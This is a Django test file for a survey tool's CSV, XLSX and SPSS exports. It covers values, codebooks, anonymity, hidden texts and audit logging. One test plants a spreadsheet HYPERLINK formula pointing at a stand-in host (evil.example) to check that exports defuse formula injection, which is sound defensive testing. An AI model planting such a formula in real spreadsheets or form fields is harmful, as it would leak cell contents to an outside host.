"""The team and district staff download a round's answers as CSV, XLSX and SPSS .sav (design.md
flow 1): values and labels against a known data set (the team's full data; what staff get of an
anonymous round is in test_disclosure), anonymity of the exports, and the audit trail."""

import csv
import datetime
import io
import tempfile

import openpyxl
import pyreadstat
from django.test import TestCase
from django.urls import reverse

from ikokmu.models import AuditEvent
from ikokmu.roles import Role
from surveys.models import Answer, HiddenText, SurveyRound
from tests.factories import DistrictFactory, user_with_role
from tests.surveys.helpers import demo_version
from tests.surveys.test_results_data import KNOWN, add_response, known_round

ORGANISATION_COLUMNS = {"organisation", "branche", "groesse"}


def body(reply) -> bytes:
    if getattr(reply, "streaming", False):
        return b"".join(reply.streaming_content)
    return reply.content


class ExportTestCase(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.version = demo_version()
        cls.district = DistrictFactory(name="Landkreis Miesbach")
        cls.round = known_round(cls.version, cls.district)
        cls.staff = user_with_role(Role.DISTRICT_STAFF, districts=[cls.district], username="lra")
        cls.team = user_with_role(Role.PROJECT_TEAM, username="team")

    def download(self, name, survey_round=None, user=None):
        self.client.force_login(user or self.team)
        reply = self.client.get(reverse(f"surveys:{name}", args=[(survey_round or self.round).pk]))
        self.assertEqual(reply.status_code, 200, getattr(reply, "content", b"")[:300])
        return reply

    def xlsx(self, survey_round=None):
        reply = self.download("round_export_xlsx", survey_round)
        workbook = openpyxl.load_workbook(io.BytesIO(body(reply)))
        rows = list(workbook["Antworten"].iter_rows(values_only=True))
        header, data = rows[0], rows[1:]
        return workbook, [dict(zip(header, row, strict=True)) for row in data]

    def sav(self, survey_round=None):
        reply = self.download("round_export_sav", survey_round)
        with tempfile.NamedTemporaryFile(suffix=".sav") as handle:
            handle.write(body(reply))
            handle.flush()
            return pyreadstat.read_sav(handle.name, output_format="dict", user_missing=True)


def by_employees(rows, key="q02_beschaeftigte"):
    return {float(row[key]): row for row in rows if row[key] is not None}


class XlsxTests(ExportTestCase):
    def test_one_row_per_response_one_column_per_code(self):
        workbook, rows = self.xlsx()
        self.assertEqual(len(rows), 5)
        header = list(rows[0])
        for column in [
            "nr",
            "q01_branche",
            "q01_branche_other_text",
            "q07_wege_anzeigen",
            "q07_wege_other",
            "q07_wege_other_text",
            "q11_bedarf_deutsch",
            "q11_bedarf_einarbeitung",
            "q25_anmerkungen",
        ]:
            self.assertIn(column, header)
        self.assertEqual(sorted(row["nr"] for row in rows), [1, 2, 3, 4, 5])

    def test_values_of_the_known_data_set(self):
        _workbook, rows = self.xlsx()
        rows = by_employees(rows)
        first, fourth, fifth = rows[10], rows[40], rows[100.5]
        self.assertEqual(first["q01_branche"], "handwerk")
        self.assertEqual((first["q07_wege_anzeigen"], first["q07_wege_agentur"]), (1, 1))
        self.assertEqual(first["q07_wege_social"], 0)
        self.assertEqual(first["q08_bedeutung"], 5)
        self.assertEqual(first["q11_bedarf_deutsch"], 5)
        self.assertEqual(first["q03_gruendung"], datetime.datetime(1998, 4, 1))
        self.assertEqual(first["q25_anmerkungen"], "Mehr Sprachkurse vor Ort")
        self.assertEqual(fourth["q07_wege_other"], 1)
        self.assertEqual(fourth["q07_wege_other_text"], "Messe")
        self.assertIsNone(fourth["q11_bedarf_einarbeitung"])
        self.assertEqual(fifth["q01_branche"], "other")
        self.assertEqual(fifth["q01_branche_other_text"], "Bäckerei")
        self.assertEqual(fifth["q08_bedeutung"], 99)  # weiß nicht
        self.assertIsNone(fifth["q04_international"])  # not answered: empty

    def test_the_codebook_sheet_names_questions_types_choices_and_codes(self):
        workbook, _rows = self.xlsx()
        rows = list(workbook["Codebuch"].iter_rows(values_only=True))
        self.assertEqual(rows[0][:3], ("Variable", "Bezeichnung", "Fragetyp"))
        self.assertIn(
            ("q01_branche", "In welcher Branche ist Ihr Betrieb tätig?", "Einfachauswahl"),
            [row[:3] for row in rows],
        )
        self.assertIn(("q01_branche", None, None, "handwerk", 1, "Handwerk"), rows)
        self.assertIn(("q08_bedeutung", None, None, 99, 99, "weiß nicht"), rows)


class CsvTests(ExportTestCase):
    def test_semicolon_csv_with_the_known_values(self):
        reply = self.download("round_export_csv")
        text = body(reply).decode("utf-8")
        self.assertTrue(text.startswith("\ufeff"))
        rows = list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))
        self.assertEqual(len(rows), 5)
        numbers = {row["q02_beschaeftigte"]: row for row in rows}
        self.assertEqual(set(numbers), {"10", "20", "30", "40", "100,5"})
        self.assertEqual(numbers["10"]["q01_branche"], "handwerk")
        self.assertEqual(numbers["10"]["q03_gruendung"], "01.04.1998")
        self.assertEqual(numbers["40"]["q07_wege_other_text"], "Messe")
        self.assertEqual(numbers["100,5"]["q04_international"], "")

    def test_the_codebook_is_a_second_download(self):
        reply = self.download("round_codebook_csv")
        rows = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig")), delimiter=";"))
        self.assertIn(["q07_wege_anzeigen", "", "", "0", "0", "nicht gewählt"], rows)


class SavTests(ExportTestCase):
    def test_values_and_labels(self):
        data, meta = self.sav()
        self.assertEqual(len(data["nr"]), 5)
        labels = meta.column_names_to_labels
        self.assertEqual(labels["q01_branche"], "In welcher Branche ist Ihr Betrieb tätig?")
        self.assertEqual(
            labels["q11_bedarf_deutsch"],
            "Wie groß ist Ihr Unterstützungsbedarf bei …: der Deutschförderung",
        )
        values = meta.variable_value_labels
        self.assertEqual(values["q01_branche"][1.0], "Handwerk")
        self.assertEqual(values["q04_international"], {1.0: "Ja", 2.0: "Nein"})
        self.assertEqual(values["q08_bedeutung"][99.0], "weiß nicht")
        self.assertEqual(values["q08_bedeutung"][5.0], "5 sehr wichtig")
        rows = by_employees(
            [dict(zip(data, row, strict=True)) for row in zip(*data.values(), strict=True)]
        )
        self.assertEqual(rows[10]["q01_branche"], 1.0)  # handwerk is the first choice
        self.assertEqual(rows[40]["q01_branche"], 3.0)  # handel the third
        self.assertEqual(rows[100.5]["q08_bedeutung"], 99.0)
        self.assertEqual(rows[40]["q07_wege_other_text"], "Messe")
        self.assertEqual(rows[10]["q03_gruendung"], datetime.date(1998, 4, 1))
        self.assertEqual(meta.missing_ranges["q08_bedeutung"], [{"lo": 99.0, "hi": 99.0}])


class AnonymityTests(ExportTestCase):
    def test_an_anonymous_round_exports_no_organisation_invitation_time_or_language(self):
        # The round page shows each invitation's language and reminders: a day or a language
        # shared by one respondent only would name the invitation.
        _workbook, rows = self.xlsx()
        header = set(rows[0])
        self.assertFalse(header & ORGANISATION_COLUMNS)
        self.assertFalse({"email", "invitation", "token", "id", "abgeschickt", "sprache"} & header)
        data, _meta = self.sav()
        self.assertFalse(set(data) & (ORGANISATION_COLUMNS | {"abgeschickt", "sprache"}))

    def test_a_personalised_round_names_the_organisation(self):
        personalised = known_round(
            self.version, self.district, anonymity=SurveyRound.Anonymity.PERSONALISED
        )
        _workbook, rows = self.xlsx(personalised)
        self.assertTrue(all(row["organisation"].startswith("Testbetrieb") for row in rows))
        self.assertEqual({row["branche"] for row in rows}, {"C"})
        data, meta = self.sav(personalised)
        self.assertTrue(all(name.startswith("Testbetrieb") for name in data["organisation"]))
        self.assertTrue(all(isinstance(at, datetime.datetime) for at in data["abgeschickt"]))
        self.assertEqual(meta.column_names_to_labels["abgeschickt"], "Abgeschickt am")

    def test_a_hidden_free_text_is_left_out_of_the_exports(self):
        answer = Answer.objects.get(response__round=self.round, text="Mehr Beratung")
        HiddenText.objects.create(answer=answer)
        _workbook, rows = self.xlsx()
        self.assertNotIn("Mehr Beratung", [row["q25_anmerkungen"] for row in rows])
        text = body(self.download("round_export_csv")).decode("utf-8")
        self.assertNotIn("Mehr Beratung", text)


class AuditAndLimitTests(ExportTestCase):
    def test_every_export_is_recorded_in_the_audit_trail(self):
        for name in [
            "round_export_csv",
            "round_export_xlsx",
            "round_export_sav",
            "round_codebook_csv",
        ]:
            body(self.download(name, user=self.staff))
        events = AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT, actor_username="lra")
        self.assertEqual(
            sorted(e.detail["format"] for e in events), ["codebook-csv", "csv", "sav", "xlsx"]
        )
        self.assertTrue(all(e.detail["rows"] == 5 for e in events))

    def test_no_export_below_five_responses(self):
        small = known_round(self.version, self.district, count=4)
        self.client.force_login(self.staff)
        reply = self.client.get(reverse("surveys:round_export_xlsx", args=[small.pk]))
        self.assertRedirects(reply, reverse("surveys:round_results", args=[small.pk]))
        self.assertFalse(AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT).exists())


class RespondentTextTests(TestCase):
    """What a respondent types reaches the district's spreadsheets as text: never as a formula
    that Excel would run, never as a character that breaks the file."""

    FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'

    @classmethod
    def setUpTestData(cls):
        cls.version = demo_version()
        cls.round = known_round(cls.version, count=3)
        add_response(cls.round, {**KNOWN[3], "q25_anmerkungen": cls.FORMULA})
        add_response(cls.round, {**KNOWN[4], "q25_anmerkungen": "Kopiert\x0baus Word\x01"})
        # The team's full export: staff get free texts of anonymous rounds once released.
        cls.team = user_with_role(Role.PROJECT_TEAM)

    def setUp(self):
        self.client.force_login(self.team)

    def get(self, name):
        reply = self.client.get(reverse(f"surveys:{name}", args=[self.round.pk]))
        self.assertEqual(reply.status_code, 200)
        return body(reply)

    def test_a_formula_in_a_free_text_stays_text_in_the_xlsx(self):
        sheet = openpyxl.load_workbook(io.BytesIO(self.get("round_export_xlsx")))["Antworten"]
        header = [cell.value for cell in sheet[1]]
        column = header.index("q25_anmerkungen") + 1
        cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
        self.assertIn(self.FORMULA, [cell.value for cell in cells])
        self.assertNotIn("f", {cell.data_type for cell in cells})

    def test_a_formula_in_a_free_text_is_defused_in_the_csv(self):
        text = self.get("round_export_csv").decode("utf-8-sig")
        texts = [row["q25_anmerkungen"] for row in csv.DictReader(io.StringIO(text), delimiter=";")]
        self.assertIn("'" + self.FORMULA, texts)

    def test_control_characters_are_dropped_and_every_download_works(self):
        sheet = openpyxl.load_workbook(io.BytesIO(self.get("round_export_xlsx")))["Antworten"]
        self.assertIn("Kopiertaus Word", [row[-1] for row in sheet.iter_rows(values_only=True)])
        for name in ("round_export_sav", "round_export_csv", "round_report", "round_results"):
            self.get(name)
